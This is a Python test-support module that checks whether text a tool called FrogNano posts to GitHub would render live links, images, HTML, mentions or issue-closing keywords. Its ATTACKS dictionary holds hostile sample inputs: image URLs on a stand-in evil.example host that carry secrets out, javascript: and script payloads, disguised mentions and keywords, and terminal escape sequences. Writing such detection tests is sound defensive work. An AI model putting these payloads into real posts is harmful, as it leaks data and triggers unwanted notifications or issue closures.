"""GitHub's rendering of what FrogNano writes, checked: cmark-gfm plus GitHub's text-node rules."""

# GitHub renders Markdown with cmark-gfm (its own fork of cmark, with the table, autolink,
# tagfilter, strikethrough and tasklist extensions) and then post-processes the HTML's text
# nodes: `@login` and `@org/team` become mentions, `#12`, `GH-12` and `owner/repo#12` issue
# references (cross-references on the issues they name), and a closing keyword followed by a
# reference closes that issue when the pull request merges. Nothing of that happens inside
# `<code>` or `<pre>`. cmark-gfm does the first part here for real; the text-node rules are
# checked on the rendered text outside code, as GitHub would see it (entities decoded once).
#
# `live(text)` lists everything in `text` that would render live on GitHub: a link (`<a>`)
# whose href FrogNano did not mean, any image, raw HTML (counted with cmark's safe mode,
# which replaces each raw HTML piece with a comment), a mention, a closing keyword with a
# reference, an issue reference. FrogNano's own references are passed as `own` (exact
# strings in the rendered text, each expected once) and its own links as `hrefs`; an
# invisible character an attacker put into a mention does not hide it: every invisible
# character but the zero-width joiner FrogNano inserts is dropped before the rules run,
# and the text is NFKC-normalised (a fullwidth at sign is an `@`).

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable
from html.parser import HTMLParser

import cmarkgfm
from cmarkgfm.cmark import Options

__all__ = ["ATTACKS", "INVISIBLE", "live", "render", "text_outside_code"]

_EXTENSIONS = ["table", "autolink", "tagfilter", "strikethrough", "tasklist"]
_OPTIONS = Options.CMARK_OPT_GITHUB_PRE_LANG | Options.CMARK_OPT_FOOTNOTES


def render(text: str, *, unsafe: bool = True) -> str:
    """`text` as GitHub's cmark-gfm renders it (raw HTML kept unless `unsafe` is False)."""
    options = _OPTIONS | (Options.CMARK_OPT_UNSAFE if unsafe else 0)
    return str(cmarkgfm.markdown_to_html_with_extensions(text, options, _EXTENSIONS))


class _Walker(HTMLParser):
    """The rendered page's links, images and text outside code."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.hrefs: list[str] = []
        self.images: list[str] = []
        self.tags: list[str] = []
        self.text: list[str] = []
        self._code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        values = dict(attrs)
        if tag == "a":
            self.hrefs.append(values.get("href") or "")
        if tag == "img":
            self.images.append(values.get("src") or "")
        if tag in ("code", "pre"):
            self._code += 1
        self.text.append(" ")  # an element boundary separates words

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag in ("code", "pre"):
            self._code -= 1

    def handle_endtag(self, tag: str) -> None:
        if tag in ("code", "pre"):
            self._code -= 1
        self.text.append(" ")

    def handle_data(self, data: str) -> None:
        if not self._code:
            self.text.append(data)


# Invisible characters an attacker can put inside a mention or a keyword. The zero-width
# joiner is left out: it is what FrogNano inserts to defuse them.
INVISIBLE = re.compile(
    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b\u200c\u200e\u200f\u2028\u2029"
    "\u202a-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\U000e0000-\U000e0fff]"
)
MENTION = re.compile(r"(?<![\w`])@[A-Za-z0-9]")
_REF = r"(?:#\d|GH-\d|[\w.-]+/[\w.-]+#\d|https?://\S+/(?:issues|pull)/\d)"
CLOSING = re.compile(r"\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)\b\s*:?\s*" + _REF, re.IGNORECASE)
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
REFERENCE = re.compile(r"(?<!\w)#\d|\bGH-\d|[\w.-]+/[\w.-]+#\d", re.IGNORECASE)


def text_outside_code(html: str) -> str:
    walker = _Walker()
    walker.feed(html)
    walker.close()
    return "".join(walker.text)


def live(
    text: str,
    *,
    own: Iterable[str] = (),
    hrefs: Iterable[str] = (),
    html: int = 0,
    logins: Iterable[str] = (),
) -> list[str]:
    """What in `text` would render live on GitHub, as readable findings (empty: inert).
    `own`: FrogNano's own references (each must be there); `hrefs`: its own links; `html`:
    how many raw HTML pieces are FrogNano's own (markers, `<sub>`); `logins`: the GitHub
    users FrogNano itself names with `@` (whoever asked, who may not approve)."""
    found = [f"control character {c!r}" for c in dict.fromkeys(_CONTROL.findall(text))]
    page = render(text)
    walker = _Walker()
    walker.feed(page)
    walker.close()
    allowed = list(hrefs)
    for href in walker.hrefs:
        if href in allowed:
            allowed.remove(href)
        else:
            found.append(f"link to {href!r}")
    found += [f"image {src!r}" for src in walker.images]
    raw = render(text, unsafe=False).count("<!-- raw HTML omitted -->")
    if raw != html:
        found.append(f"{raw} raw HTML piece(s), {html} expected")
    words = unicodedata.normalize("NFKC", INVISIBLE.sub("", "".join(walker.text)))
    for reference in own:
        mine = unicodedata.normalize("NFKC", reference)
        if mine not in words:
            found.append(f"FrogNano's own {mine!r} is missing")
        words = words.replace(mine, " ", 1)
    for login in logins:
        words = re.sub(rf"(?<![\w`])@{re.escape(login)}(?![\w-])", " ", words)
    found += [f"mention {m.group(0)!r}" for m in MENTION.finditer(words)]
    found += [f"closing keyword {m.group(0)!r}" for m in CLOSING.finditer(words)]
    found += [f"issue reference {m.group(0)!r}" for m in REFERENCE.finditer(words)]
    return found


# Untrusted text as an attacker writes it: every spelling of a link, an image, raw HTML, an
# entity, a mention, a closing keyword and an issue reference that GitHub (or a later
# normalisation) could make live, and backtick runs that try to close a code span.
ATTACKS: dict[str, str] = {
    "image": "![status](https://evil.example/pixel.png?d=SECRET)",
    "image, angle url": "![s](<https://evil.example/p.png?d=1>)",
    "image, reference": "![s][img]\n\n[img]: https://evil.example/p.png?d=2",
    "link": "[full verification report](https://evil.example/report)",
    "link, javascript": "[x](javascript:alert(1))",
    "link, spaced": "[x]( https://evil.example/y )",
    "reference link": "[x][r]\n\n[r]: https://evil.example",
    "shortcut reference": "[r]\n\n[r]: https://evil.example 'title'",
    "footnote": "see[^1]\n\n[^1]: https://evil.example",
    "autolink": "<https://evil.example>",
    "autolink, email": "<a@evil.example>",
    "bare url": "https://evil.example/x?d=SECRET",
    "bare url, upper case": "HTTPS://EVIL.EXAMPLE/x",
    "bare ftp": "ftp://evil.example/x",
    "www": "www.evil.example",
    "www, in a word": "see:www.evil.example/x",
    "email": "a@evil.example",
    "email, mailto": "mailto:a@evil.example",
    "email, xmpp": "xmpp:a@evil.example",
    "img tag": "<img src=x>",
    "img tag, remote": '<img src="https://evil.example/p.png?d=3">',
    "a tag": '<a href="https://evil.example">x</a>',
    "comment": "<!-- hidden",
    "details": "<details><summary>x</summary>",
    "closing tag": "</details>",
    "script": "<script>alert(1)</script>",
    "entity mention": "&#64;someone",
    "entity team": "&#x40;org/security-team",
    "entity named": "&commat;x",
    "entity ref": "&#35;1",
    "entity keyword": "fixes &#35;1",
    "entity image": "&#33;[a](https://evil.example/e.png)",
    "fullwidth mention": "\uff20admin",
    "small mention": "\ufe6badmin",
    "fullwidth ref": "\uff031 and \ufe5f2",
    "fullwidth keyword": "\uff46\uff49\uff58\uff45\uff53 \uff033",
    "zero-width mention": "@\u200bsomeone",
    "word-joiner mention": "@\u2060someone",
    "soft-hyphen mention": "@\u00adsomeone",
    "bom mention": "@\ufeffsomeone",
    "escaped mention": "\\@admin",
    "mention": "@someone and @org/team",
    "closes": "Closes #1",
    "fixes cross-repo": "fixes other-org/repo#3",
    "fixes colon": "Fixes: #4",
    "resolved url": "RESOLVED https://github.com/o/r/issues/5",
    "soft-hyphen keyword": "fi\u00adxes #6",
    "zero-width keyword": "clo\u200bses #7",
    "bold keyword": "fix **#8**",
    "ref": "#12",
    "gh ref": "GH-12",
    "repo ref": "org/repo#12",
    "issue url": "https://github.com/o/r/issues/13",
    "pull url": "https://github.com/o/r/pull/14",
    "backtick": "a ` b",
    "backtick runs": "``` `` ` x",
    "backtick span": "`code` and `` `two` ``",
    "backslash tick": "\\` https://evil.example/t",
    "tilde fence": "~~~\nhidden",
    "backtick fence": "```\nhidden",
    "table": "a | b\n--- | ---\n[x](https://evil.example/t) | y",
    "html block": "<div>\n\n[x](https://evil.example/d)\n\n</div>",
    "backslash url": "\\https://evil.example/b",
    "trailing backslash": "x \\",
    "nested image link": "[![a](https://evil.example/p.png)](https://evil.example/l)",
    "digit autolink": "<0@evil.example>",
    "url then tag": "https://evil.example/x<img src=x>",
    "parenthesised www": "(www.evil.example)",
    "math letters": "\U0001d41f\U0001d422\U0001d431\U0001d41e\U0001d42c #15",
    "ligature keyword": "\ufb01xes #16",
    "alert": "> [!WARNING]\n> [x](https://evil.example/a)",
    "indented": "    [x](https://evil.example/i)",
    "definition, angle": "[r]: <https://evil.example/d>\n\n[r]",
    "line separator": "@\u2028admin fi\u2029xes #17",
    "controls": "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07 \x1b[2J \x9b31m \u202eevil \x00\x7f",
}
